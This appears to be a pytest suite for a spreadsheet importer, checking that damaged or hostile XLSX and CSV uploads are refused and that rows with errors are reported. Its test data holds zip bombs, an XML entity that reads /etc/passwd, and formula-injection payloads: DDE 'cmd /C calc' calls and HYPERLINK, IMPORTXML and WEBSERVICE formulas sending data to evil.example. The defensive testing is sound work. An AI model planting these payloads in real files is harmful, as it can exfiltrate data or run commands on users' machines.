"""Files that are broken, hostile or odd: refused at once, or row by row; nothing is lost, and no formula runs."""

import struct
import time
import zipfile
from datetime import date
from io import BytesIO

import pytest

from assessment.core.fault import BadInput
from assessment.sheets import archive, reader
from assessment.sheets.reader import read_sheet
from tests.sheets.made import HEADINGS, ROW, RUBRIC, archive_of, as_csv, as_xlsx, changed, part, sheet_of

GOOD = as_xlsx([HEADINGS, ROW])
OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"


def deep_bomb():
    """A workbook with a part that is a thousand times larger than it looks."""
    return changed(GOOD, xl__worksheets__sheet9_x=b" " * 60_000_000)


def lying_bomb():
    """The same, and it says that the part has a hundred bytes."""
    bomb = bytearray(deep_bomb())
    true, said = struct.pack("<I", 60_000_000), struct.pack("<I", 100)
    return bytes(bomb.replace(true, said))


def many_parts():
    """A workbook of thousands of empty parts."""
    return changed(GOOD, **{f"xl__{number}_x": b"" for number in range(2_100)})


def many_sheets():
    """A workbook of a hundred sheets."""
    return as_xlsx([HEADINGS, ROW], before=[f"S{number}" for number in range(100)])


def twice_inside():
    """A zip in which the sheet is there twice, a good one and another."""
    out = BytesIO(GOOD)
    with zipfile.ZipFile(out, "a") as more, pytest.warns(UserWarning, match="Duplicate"):
        more.writestr("xl/worksheets/sheet1.xml", part(GOOD).replace(b"Mill", b"Hill"))
    return out.getvalue()


def locked_part():
    """A zip that says its parts are encrypted."""
    content = bytearray(GOOD)
    at = content.find(b"PK\x01\x02")
    while at >= 0:
        content[at + 8] |= 1
        at = content.find(b"PK\x01\x02", at + 4)
    return bytes(content)


def entities():
    """A sheet with a document type that would grow, or fetch a file."""
    declared = b'<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd"><!ENTITY b "&a;&a;">]>'
    return changed(GOOD, xl__sharedStrings_x=declared + part(GOOD, "xl/sharedStrings.xml"))


REFUSED = {
    "nothing": (lambda: b"", "nothing in this file"),
    "only spaces": (lambda: b" \r\n \t\n", "nothing in this file"),
    "a zip cut short": (lambda: GOOD[: len(GOOD) // 2], "damaged"),
    "a zip cut at its end": (lambda: GOOD[:-30], "damaged"),
    "a zip with rubbish in the middle": (lambda: GOOD[:400] + b"\0" * 300 + GOOD[700:], "damaged"),
    "four bytes of a zip": (lambda: b"PK\x03\x04", "damaged"),
    "a zip with no parts": (archive_of, "not a spreadsheet"),
    "a zip of other things": (lambda: archive_of(a_dot_txt="x"), "not a spreadsheet"),
    "a bomb": (deep_bomb, "unpacks to far more"),
    "a bomb that lies about its size": (lying_bomb, "damaged"),
    "thousands of parts": (many_parts, "unpacks to far more"),
    "a hundred sheets": (many_sheets, "unpacks to far more"),
    "the same part twice": (twice_inside, "damaged"),
    "encrypted parts": (locked_part, "damaged"),
    "a document type": (entities, "damaged"),
    "a sheet that is no XML": (lambda: changed(GOOD, xl__worksheets__sheet1_x=b"<worksheet><sheetD"), "damaged"),
    "no sheet in it": (lambda: changed(GOOD, xl__worksheets__sheet1_x=None), "damaged"),
    "a password": (lambda: OLE + b"\0" * 600 + "EncryptedPackage".encode("utf-16-le"), "password"),
    "an old .xls": (lambda: OLE + b"\0" * 600, "old format"),
    "an .ods renamed": (
        lambda: archive_of(mimetype="application/vnd.oasis.opendocument.spreadsheet", content_dot_xml="<x/>"),
        "not a spreadsheet",
    ),
    "an .xlsb renamed": (lambda: archive_of(xl__workbook_dot_bin="x"), "not a spreadsheet"),
    "a .docx renamed": (lambda: archive_of(word__document_dot_xml="<x/>"), "not a spreadsheet"),
    "a web page renamed": (lambda: b"<!DOCTYPE html><table><tr><td>project.name", "neither an XLSX file nor a CSV"),
    "an XML spreadsheet": (lambda: b'<?xml version="1.0"?><Workbook/>', "neither an XLSX file nor a CSV"),
    "a PDF renamed": (lambda: b"%PDF-1.7 project.name,assessment.date", "neither an XLSX file nor a CSV"),
    "a picture": (lambda: b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR", "neither an XLSX file nor a CSV"),
    "NUL in a table": (lambda: as_csv([HEADINGS, ["a\0b", "22/11/2026"]]), "neither an XLSX file nor a CSV"),
    "no encoding that fits": (lambda: b"project.name,assessment.date\n\x81\x8d\x8f,x", "neither an XLSX file nor"),
    "half of UTF-16": (lambda: as_csv([HEADINGS, ROW], encoding="utf-16")[:-1], "neither an XLSX file nor a CSV"),
    "a quote never closed": (lambda: b'project.name,assessment.date\n"Mill Lane,22/11/2026\n', "breaks off"),
    "text after a quote": (lambda: b'project.name,assessment.date\n"Mill" Lane,22/11/2026\n', "breaks off"),
    "no headings": (lambda: as_csv([ROW, ROW]), "no row has the headings"),
    "other headings": (lambda: as_xlsx([["Name", "When"], ROW]), "no row has the headings"),
    "a blank sheet": (lambda: as_xlsx([]), "no row has the headings"),
    "one wrong heading": (lambda: as_csv([[*HEADINGS, "Colour"], [*ROW, "red"]]), "heading is not known"),
    "a heading twice": (
        lambda: as_csv([[*HEADINGS, "Project's name"], [*ROW, "x"]]),
        "same column as project.name (A)",
    ),
    "a heading in two languages": (lambda: as_csv([[*HEADINGS, "Enw'r prosiect"], [*ROW, "x"]]), "same column"),
    "no date": (lambda: as_csv([HEADINGS[:1], ROW[:1]]), "this column is missing"),
    "300 columns that nobody knows": (
        lambda: as_csv([[*HEADINGS, *(f"c{at}" for at in range(300))], ROW]),
        "heading is not known",
    ),
    "1,000 columns": (lambda: as_csv([[*HEADINGS, *(f"c{at}" for at in range(1_000))], ROW]), "more than 100000 rows"),
    "a cell at the far right": (
        lambda: sheet_of(b'<row r="3"><c r="XFD3"><v>1</v></c></row>'),
        "more than 100000 rows",
    ),
    "a cell at the far right without a space before its place": (
        lambda: sheet_of(b'<row r="3"><c s="0"r="XFD3"><v>1</v></c></row>'),
        "more than 100000 rows",
    ),
    "a cell far down": (lambda: sheet_of(b'<row r="1048576"><c r="A1048576"><v>1</v></c></row>'), "more than 100000"),
    "a cell that is in no sheet": (lambda: sheet_of(b"<row r='3'><c r='ZZZZ99999999999'/></row>"), "more than 100000"),
    "a wide and long sheet of nothing": (
        lambda: sheet_of(b'<row r="90000"><c r="SA90000"><v>1</v></c></row>'),
        "more than 100000 rows",
    ),
    "cells that do not say where they are": (
        lambda: sheet_of(b"<row>" + b"<c><v>1</v></c>" * 600 + b"</row>"),
        "more than 100000 rows",
    ),
}


@pytest.mark.parametrize("name", REFUSED)
def test_a_file_that_is_no_sheet_of_assessments_is_refused_in_words(name):
    """Each gives BadInput, at once, with a sentence that says what is wrong and one that says what to do."""
    make, said = REFUSED[name]
    content = make()
    begun = time.process_time()
    with pytest.raises(BadInput) as refused:
        read_sheet(content, "sheet.xlsx", RUBRIC)
    assert time.process_time() - begun < 2
    told = [fault.in_(str) for fault in refused.value.faults]
    assert said in told[0]
    assert all(fault.remedy.in_(str).endswith(".") for fault in refused.value.faults)


def test_a_file_of_a_gigabyte_is_refused_unread(monkeypatch):
    """Its size is enough: nothing is unpacked, decoded or copied."""
    monkeypatch.setattr(reader, "MOST_BYTES", 100)
    begun = time.process_time()
    for content in (b"PK\x03\x04" + bytes(1_000_000), b"a,b\n" * 250_000):
        with pytest.raises(BadInput, match="larger than"):
            read_sheet(content, "sheet.xlsx", RUBRIC)
    assert time.process_time() - begun < 0.1


FORMULAS = (
    '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    '=DDE("cmd";"/C calc";"x")',
    '=IMPORTXML("http://evil.example","//a")',
    '=WEBSERVICE("http://evil.example")',
)


@pytest.mark.parametrize("formula", FORMULAS)
@pytest.mark.parametrize("make", [as_csv, as_xlsx])
def test_a_hostile_formula_is_read_as_the_text_that_it_is(make, formula):
    """It is a project's name like any other; nothing runs, and nothing is cut off."""
    [row] = read_sheet(make([HEADINGS, [formula, "22/11/2026"]]), "x", RUBRIC).rows
    assert row.assessment.project.name == formula


def test_of_a_formula_its_last_value_is_read():
    """What the spreadsheet showed when it was saved."""
    [row] = read_sheet(as_xlsx([HEADINGS, [("=1+1", None, "Mill Lane"), ROW[1]]]), "x", RUBRIC).rows
    assert row.assessment.project.name == "Mill Lane"


def test_outside_links_and_macros_do_not_come_along():
    """What goes on to the reader has none of the parts that could fetch or run anything."""
    content = changed(
        GOOD,
        xl__externalLinks__externalLink1_x=b"<x/>",
        xl__vbaProject_bin=b"x",
        xl__media__image1_x=b"x",
        xl__connections_x=b"<x/>",
    )
    with zipfile.ZipFile(archive.harmless(content)) as harmless:
        names = set(harmless.namelist())
    assert not [name for name in names if "external" in name or "vba" in name or "media" in name or "connect" in name]
    assert "xl/worksheets/sheet1.xml" in names
    [row] = read_sheet(content, "x", RUBRIC).rows
    assert row.assessment.project.name == "Mill Lane"


WIDE = [*HEADINGS, "co_design.status", "co_design.decision", "co_design.trust.level", "context.people_who_took_part"]
WIDE += [
    "co_design.back_by",
    "taking_part.co_design.took_part",
    "tags",
    "co_design.trust.why",
    "state",
    "rubric",
    "taking_part.co_design.asked",
]


def row_of(**cells):
    """A row with these cells, by the end of their column's id."""
    said = {"name": ROW[0], "date": ROW[1], **cells}
    return [next((said[key] for key in said if one.endswith(key)), "") for one in WIDE]


FAULTY = {
    "no name": ({"name": ""}, "project.name (A): this is empty"),
    "a blank name": ({"name": "   "}, "project.name (A): this is empty"),
    "no date": ({"date": ""}, "assessment.date (B): this is empty"),
    "the 31st of February": ({"date": "31/02/2026"}, "assessment.date (B): '31/02/2026' is not a day"),
    "month before day": ({"date": "11/22/2026"}, "'11/22/2026' is not a day"),
    "a number for a date": ({"date": 46348}, "'46348' is not a day"),
    "words for a date": ({"date": "last week"}, "'last week' is not a day"),
    "an unknown status": ({"status": "Finished"}, "co_design.status (C): 'Finished' is not one of the answers"),
    "an unknown step": ({"decision": "Votes"}, "co_design.decision (D): 'Votes' is not one of the answers"),
    "a level too high": ({"level": 4}, "co_design.trust.level (E): '4' is not one of the answers"),
    "half a level": ({"level": 1.5}, "'1.5' is not one of the answers"),
    "true for a level": ({"level": "true"}, "'true' is not one of the answers"),
    "does not apply, and no reason": ({"level": "Not applicable"}, "co_design.trust.why (J): nothing says why"),
    "part of a person": ({"people_who_took_part": 3.5}, "'3.5' is not a number of people"),
    "nobody": ({"people_who_took_part": 0}, "'0' is not a number of people"),
    "fewer than nobody": ({"people_who_took_part": -4}, "'-4' is not a number of people"),
    "more people than there are": ({"people_who_took_part": 1e300}, "is not a number of people"),
    "infinitely many": ({"people_who_took_part": "inf"}, "'inf' is not a number of people"),
    "an unknown group": ({"co_design.took_part": "Children; Martians"}, "'Martians' is not one of the answers"),
    "another group without a name": ({"co_design.took_part": "other"}, "nothing says who 'other' is"),
    "a group in two columns": (
        {"co_design.took_part": "Children", "co_design.asked": "plant; Carers"},
        "'children' stands in two columns",
    ),
    "a tag like a letter": ({"tags": "x" * 90}, "is too long"),
    "a spreadsheet's error": ({"name": "#REF!"}, "shows an error here: #REF!"),
    "a control character": ({"name": "Mill\x07Lane"}, "control character"),
    "the example's mark": ({"state": "example"}, "state (K): this row is marked as an example"),
    "another rubric": ({"rubric": "other/9"}, "rubric (L): this row was made with other/9"),
}


@pytest.mark.parametrize("name", FAULTY)
def test_a_row_that_is_wrong_is_refused_by_its_number_and_heading_and_no_other_row(name):
    """The rows before and after it are read; its fault says where, what, and what to do."""
    cells, said = FAULTY[name]
    before, after = row_of(name="Before"), row_of(name="After")
    sheet = read_sheet(as_csv([WIDE, before, row_of(**cells), after]), "x.csv", RUBRIC)
    assert [row.number for row in sheet.rows] == [2, 3, 4]
    assert [row.assessment.project.name for row in sheet.rows if row.assessment] == ["Before", "After"]
    [(number, fault)] = sheet.faults
    assert number == 3
    assert said in fault.in_(str)


def test_every_fault_of_every_row_is_told_at_once():
    """Nobody mends a sheet one fault at a time."""
    wrong = row_of(date="soon", level=9, status="gone", people_who_took_part="many")
    sheet = read_sheet(as_csv([WIDE, wrong, [*wrong[:1], "later", *wrong[2:]]]), "x.csv", RUBRIC)
    assert [len(row.faults) for row in sheet.rows] == [4, 4]


def test_merged_cells_are_refused_where_they_are():
    """A merged cell has its value in one row only: the others would lose it in silence."""
    rows = [HEADINGS, ["One", "22/11/2026"], ["Two", "22/11/2026"], ["Three", "22/11/2026"]]
    sheet = read_sheet(as_xlsx(rows, merge="B3:B4"), "x", RUBRIC)
    assert [bool(row.assessment) for row in sheet.rows] == [True, False, False]
    assert all("merged" in row.faults[-1].in_(str) for row in sheet.rows[1:])


def test_a_row_that_is_there_twice_is_told_of():
    """The second says which row it is the same as."""
    sheet = read_sheet(as_csv([HEADINGS, ROW, ["", ""], ROW]), "x", RUBRIC)
    assert [(row.number, len(row.faults)) for row in sheet.rows] == [(2, 0), (4, 1)]
    assert "just the same as row 2" in sheet.rows[1].faults[0].in_(str)


def test_something_under_no_heading_is_not_lost_in_silence():
    """A value beside the table is a fault of its row."""
    sheet = read_sheet(as_csv([HEADINGS, [*ROW, "a note"]]), "x", RUBRIC)
    assert [fault.in_(str)[:2] for _, fault in sheet.faults] == ["C:"]


@pytest.mark.parametrize("name", ["مشروع الطريق", "🚌 Bus 42 👩‍👩‍👧", "Tŷ Ŵyr", "a\u202eb", "—" * 50, "x" * 30_000])
@pytest.mark.parametrize("make", [as_csv, as_xlsx])
def test_every_script_comes_through_as_it_was_typed(make, name):
    """Right to left, emoji, Welsh letters, very long."""
    [row] = read_sheet(make([HEADINGS, [name, "22/11/2026"]]), "x", RUBRIC).rows
    assert row.assessment.project.name == name


@pytest.mark.parametrize(
    "day",
    [
        date(2026, 11, 22),
        "22/11/2026",
        "22.11.26",
        "2026-11-22",
        "22 November 2026",
        "22 Tachwedd 2026",
        "22nd of Nov 2026",
    ],
)
def test_a_day_may_be_written_in_many_ways(day):
    """As a date, in numbers, in words of either language."""
    [row] = read_sheet(as_xlsx([HEADINGS, ["Mill Lane", day]]), "x", RUBRIC).rows
    assert row.assessment.assessment.date == date(2026, 11, 22)


def test_a_workbook_that_counts_from_1904_has_the_same_days():
    """Old Macs count days from another one."""
    content = as_xlsx([HEADINGS, ["Mill Lane", date(2026, 11, 22)]], options={"date_1904": True})
    [row] = read_sheet(content, "x", RUBRIC).rows
    assert row.assessment.assessment.date == date(2026, 11, 22)


@pytest.mark.parametrize(
    "content",
    [
        as_csv([HEADINGS, ["Tŷ", "22/11/2026"]]),
        as_csv([HEADINGS, ["Tŷ", "22/11/2026"]], encoding="utf-8-sig"),
        as_csv([HEADINGS, ["Tŷ", "22/11/2026"]], ";"),
        as_csv([HEADINGS, ["Tŷ", "22/11/2026"]], "\t"),
        as_csv([HEADINGS, ["Tŷ", "22/11/2026"]], "\t", "utf-16"),
    ],
)
def test_a_table_may_be_saved_in_many_ways(content):
    """With or without the mark of UTF-8, with commas, semicolons or tabs."""
    [row] = read_sheet(content, "x", RUBRIC).rows
    assert row.assessment.project.name == "Tŷ"


def test_a_table_of_windows_is_read_too():
    """An old program's own encoding, where it is no UTF-8."""
    [row] = read_sheet(as_csv([HEADINGS, ["Café £5", "22/11/2026"]], encoding="cp1252"), "x", RUBRIC).rows
    assert row.assessment.project.name == "Café £5"


def test_a_sheet_called_data_hides_no_other_and_is_unpacked_alone():
    """Which sheet is read hangs on its headings; of an export nothing but the data is unpacked."""
    for rows, before in (([HEADINGS, ROW], ["Data"]), ([HEADINGS, ROW, [*ROW, "x"]], ["Data", "Notes"])):
        assert read_sheet(as_xlsx(rows, before=before), "x", RUBRIC).rows[0].assessment.project.name == "Mill Lane"
    export = as_xlsx([HEADINGS, ROW], name="Data", before=["Projects"])
    with zipfile.ZipFile(archive.harmless(export, "Data")) as alone:
        assert [name for name in alone.namelist() if "worksheets/" in name] == ["xl/worksheets/sheet2.xml"]
    assert len(read_sheet(export, "x", RUBRIC).rows) == 1
    assert archive.harmless(export, "Other") is None
